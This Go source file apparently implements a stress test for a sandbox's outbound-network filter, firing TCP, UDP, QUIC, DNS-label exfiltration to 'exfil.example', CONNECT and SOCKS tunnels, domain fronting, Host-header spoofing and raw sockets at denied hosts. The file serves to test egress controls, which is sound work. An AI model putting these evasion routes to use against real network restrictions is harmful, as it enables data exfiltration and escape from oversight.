//go:build linux

package main

import (
	"context"
	"crypto/rand"
	"fmt"
	"math/big"
	"net"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"
)

// storm is SECONDS ALLOWED DENIED...: it goes at every way out at once for that long, with names
// and addresses that are denied, and through every door with the name that is allowed, which it
// uses as well. It prints how often it tried each.
func storm(args []string) {
	seconds, err := strconv.Atoi(args[0])
	if err != nil || len(args) < 3 {
		fmt.Fprintln(os.Stderr, "agent: storm SECONDS ALLOWED DENIED...")
		os.Exit(2)
	}
	allowed, denied := args[1], args[2:]
	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(seconds)*time.Second)
	defer cancel()
	ways := map[string]func(host string){
		"tcp":     func(host string) { dial(ctx, "tcp", host, port()) },
		"udp":     func(host string) { dial(ctx, "udp", host, port()) },
		"quic":    func(host string) { dial(ctx, "udp", host, "443") },
		"resolve": func(host string) { _, _ = net.DefaultResolver.LookupHost(ctx, secret()+"."+host) },
		"query": func(host string) {
			if ip := net.ParseIP(host); ip != nil {
				query("udp|" + host + "|" + secret() + ".exfil.example|16")
			}
		},
		"CONNECT": func(host string) { tunnel(net.JoinHostPort(host, port()) + "|x") },
		"request": func(host string) {
			raw(`GET http://` + host + `/` + secret() + ` HTTP/1.1\r\nHost: ` + allowed +
				`\r\nConnection: close\r\n\r\n`)
		},
		"socks": func(host string) { socks(host + "|" + port() + "|x") },
		"front": func(host string) { speakTLS("|" + allowed + ":443|" + host) },
		"host": func(host string) {
			direct(allowed + `:80|GET / HTTP/1.1\r\nHost: ` + host + `\r\nConnection: close\r\n\r\n`)
		},
		"sockets": sockets,
		"use":     func(string) { get("http://" + allowed + "/") },
	}
	var mu sync.Mutex
	counts := map[string]*atomic.Int64{}
	var running sync.WaitGroup
	for name, way := range ways {
		count := &atomic.Int64{}
		mu.Lock()
		counts[name] = count
		mu.Unlock()
		for range 2 {
			running.Go(func() {
				for i := 0; ctx.Err() == nil; i++ {
					way(denied[i%len(denied)])
					count.Add(1)
				}
			})
		}
	}
	running.Wait()
	for name, count := range counts {
		fmt.Println(name, count.Load())
	}
}

func dial(ctx context.Context, network, host, port string) {
	ctx, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	c, err := (&net.Dialer{}).DialContext(ctx, network, net.JoinHostPort(host, port))
	if err != nil {
		return
	}
	_, _ = c.Write([]byte("carried out"))
	c.Close()
}

// port is any.
func port() string {
	n, err := rand.Int(rand.Reader, big.NewInt(65535))
	if err != nil {
		return "443"
	}
	return fmt.Sprint(n.Int64() + 1)
}

// secret is what would be carried out by a name.
func secret() string { return fmt.Sprintf("s%x", rand.Text()[:8]) }

// sockets are of every family and kind; what can be had sends to the host.
func sockets(host string) {
	ip := net.ParseIP(host).To4()
	if ip == nil {
		return
	}
	to := &unix.SockaddrInet4{Port: 443, Addr: [4]byte(ip)}
	kinds := []int{unix.SOCK_STREAM, unix.SOCK_DGRAM, unix.SOCK_RAW, unix.SOCK_SEQPACKET}
	protocols := []int{
		0, unix.IPPROTO_ICMP, unix.IPPROTO_TCP, unix.IPPROTO_UDP, unix.IPPROTO_SCTP, unix.IPPROTO_MPTCP,
	}
	for _, kind := range kinds {
		for _, protocol := range protocols {
			fd, err := unix.Socket(unix.AF_INET, kind|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, protocol)
			if err != nil {
				continue
			}
			_ = unix.Sendto(fd, []byte("carried out"), unix.MSG_FASTOPEN, to)
			_ = unix.Sendto(fd, []byte("carried out"), 0, to)
			_ = unix.Connect(fd, to)
			_ = unix.Close(fd)
		}
	}
}
